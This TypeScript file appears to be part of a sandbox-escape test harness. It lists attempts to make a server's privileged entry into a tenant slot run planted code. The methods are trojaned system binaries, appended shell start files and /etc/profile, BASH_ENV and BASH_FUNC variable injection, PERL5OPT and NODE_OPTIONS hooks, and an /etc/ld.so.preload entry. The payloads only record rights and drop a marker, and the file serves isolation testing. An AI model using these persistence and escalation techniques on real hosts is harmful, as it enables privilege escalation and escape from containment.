import type { Attempt, Scene } from '../attempt.ts'
import { newFolder, quoted } from '../beside.ts'

/**
 * Leaves programs, start files and variables for the server's own way into the slot, which would run them with rights that no command has.
 * Whatever runs them writes down what rights it has, which namespaces it is in, and tries to leave a marker outside.
 */
const record = (folder: string, mark: string, outside: string): string => `
{ grep -hE '^(CapEff|CapPrm|NoNewPrivs)' /proc/self/status; tr -s ' ' < /proc/self/uid_map; readlink /proc/self/ns/mnt /proc/self/ns/pid /proc/self/ns/user; echo end; } >> ${folder}/${mark} 2> /dev/null
{ : > ${outside}/marker-${mark}; } 2> /dev/null`

/** What was recorded that is not as it is in a command. */
function more(recorded: string, command: string): string | null {
  const [usual = ''] = command.split('end\n')
  return recorded.split('end\n').find((one) => one !== '' && one !== usual) ?? null
}

async function triggered(scene: Scene): Promise<void> {
  const { attacker } = scene
  // A slot whose tenant broke it is the tenant's own loss.
  await attacker.exec('true').catch(() => {})
  await attacker.exec('cat /dev/null; ls > /dev/null; env > /dev/null').catch(() => {})
  await attacker.files.write('trigger', 'x').catch(() => {})
  await attacker.files.read('trigger').catch(() => {})
  await attacker.files.list('.').catch(() => {})
  await attacker.exec('sleep 5', { timeoutMs: 200 }).catch(() => {})
}

/** Puts things in place, makes the server come in, compares. */
const trap = (name: string, put: (script: string) => string, env?: (script: string) => Record<string, string>): Attempt => ({
  name: `wait for the server’s way in: ${name}`,
  escape: async (scene) => {
    const { attacker, beside, mark, after } = scene
    const outside = await newFolder(beside)
    after(() => beside.run(`rm -rf -- ${outside}`))
    await beside.run(`chmod 777 ${outside}`)
    const folder = attacker.workspace
    const script = record(folder, mark, outside)
    const { stdout: usual } = await attacker.exec(`${record(folder, `usual-${mark}`, '/nonexistent')}; cat ${folder}/usual-${mark}`)
    if (!usual.includes('CapEff')) throw new Error('a command cannot say what rights it has')
    // Nothing of the machine's is touched: what is written is seen from outside, or not.
    await attacker.exec(`touch /usr/bin/${mark} 2> /dev/null; true`)
    if ((await beside.run(`[ -e /usr/bin/${mark} ] && { rm -f /usr/bin/${mark}; echo through; }; true`)) !== '')
      return 'it writes to the machine’s own /usr'
    await attacker.exec(put(script))
    if (env) {
      const given = env(`${folder}/start`)
      await attacker.exec(`printf %s ${quoted(script)} > start; chmod 755 start; true`, {})
      for (let turn = 0; turn < 3; turn++) await attacker.exec('true', { env: given }).catch(() => {})
    }
    await triggered(scene)
    const recorded = await attacker.files.read(mark).catch(() => '')
    const there = (await beside.run(`ls ${outside}`)).trim()
    return there !== '' ? `a marker outside: ${there}` : more(recorded, usual)
  },
  // The same recorder, run by what does have more rights: it is seen.
  control: async ({ attacker, beside, mark }) => {
    const folder = attacker.workspace
    const { stdout: usual } = await attacker.exec(
      `unshare --user --map-root-user bash -c ${quoted(record(folder, `usual-${mark}`, '/nonexistent'))}; cat ${folder}/usual-${mark}`,
    )
    const outside = await newFolder(beside)
    await beside.run(record(outside, 'said', outside))
    return more(await beside.run(`cat ${outside}/said`), usual)
  },
})

/** Stands in for a program, and does what it did. */
const replaced =
  (programs: readonly string[]) =>
  (script: string): string =>
    `
  mkdir -p /usr/local/kept 2> /dev/null
  for name in ${programs.join(' ')}; do
    at=$(command -v $name) || continue
    real=$(readlink -f "$at"); [ -f "$real" ] && [ -w "$(dirname "$real")" ] || continue
    kept=/usr/local/kept/$name; cp -p "$real" "$kept" || continue
    if [ ! -e /usr/local/kept/sh ]; then cp -p "$(readlink -f "$(command -v bash)")" /usr/local/kept/sh; cp -p "$(command -v grep)" /usr/local/kept/own-grep; fi
    printf '%s\\n' '#!/usr/local/kept/sh' ${quoted(script)} "exec $kept \\"\\$@\\"" > "$real.new" && chmod 755 "$real.new" && mv -f "$real.new" "$real"
  done; true`

export const attempts: Attempt[] = [
  trap('programs of the shell replaced', replaced(['env', 'cat', 'sleep', 'mktemp', 'mv', 'chmod', 'stat', 'ls', 'find', 'tar'])),
  trap(
    'programs that enter replaced',
    replaced(['nsenter', 'setpriv', 'unshare', 'bwrap', 'node', 'kill', 'mount', 'ip', 'nft', 'iptables', 'perl']),
  ),
  trap('bash replaced', replaced(['bash'])),
  trap(
    'start files of shells',
    (script) =>
      `for file in "$HOME/.bashrc" "$HOME/.bash_profile" "$HOME/.profile" "$HOME/.bash_login" "$HOME/.bash_logout" /etc/profile /etc/bash.bashrc /etc/profile.d/x.sh /etc/environment; do printf '%s\\n' ${quoted(script)} >> "$file"; done 2> /dev/null; true`,
  ),
  trap(
    'variables that name a start file',
    () => 'true',
    (start) => ({ BASH_ENV: start, ENV: start, PROMPT_COMMAND: `. ${start}` }),
  ),
  trap(
    'functions in variables',
    () => 'true',
    (start) => ({ 'BASH_FUNC_nsenter%%': `() { . ${start}; }`, 'BASH_FUNC_cat%%': `() { . ${start}; }` }),
  ),
  trap(
    'a path of its own',
    (script) =>
      `mkdir -p bin; for name in env nsenter setpriv perl bash cat sh unshare bwrap; do printf '%s\\n' '#!/bin/bash' ${quoted(script)} 'exit 0' > bin/$name; chmod 755 bin/$name; done`,
    () => ({
      PATH: './bin:/workspace/bin:/usr/bin:/bin',
      PERL5LIB: '/workspace',
      PERL5OPT: '-Mevil',
      NODE_OPTIONS: '--require /workspace/evil.js',
      PYTHONSTARTUP: '/workspace/evil.py',
    }),
  ),
  {
    name: 'wait for the server’s way in: a library loaded before all others',
    escape: async ({ attacker, mark }) => {
      // The loader complains, by name, of a library that it cannot load: whoever is told to load it is seen.
      await attacker.exec(`echo /${mark}.so > /etc/ld.so.preload; true`)
      const seen: string[] = []
      for (const env of [{}, { LD_PRELOAD: `/${mark}.so`, LD_AUDIT: `/${mark}.so` }]) {
        const { stderr } = await attacker.exec('exec 2> /dev/null; :', { env }).catch((error: Error) => ({ stderr: error.message }))
        // Bash itself is the tenant's; anything before it is not.
        for (const line of stderr.split('\\n')) if (line.includes(mark) && /nsenter|setpriv|unshare|bwrap|perl/.test(line)) seen.push(line)
      }
      const error = await attacker.files.read('nothing-here').catch((one: Error) => one)
      if (error instanceof Error && /nsenter|setpriv|unshare|bwrap|perl/.test(error.message) && error.message.includes(mark))
        seen.push(error.message)
      await attacker.exec('rm -f /etc/ld.so.preload')
      return seen.join('\n') || null
    },
    control: async ({ attacker, mark }) => {
      const { stderr } = await attacker.exec('perl -e 1', { env: { LD_PRELOAD: `/${mark}.so` } })
      const { stderr: named } = await attacker.exec(`LD_PRELOAD=/${mark}.so perl -e 1`)
      return `${stderr}${named}`.includes(mark) ? `${stderr}${named}` : null
    },
  },
]
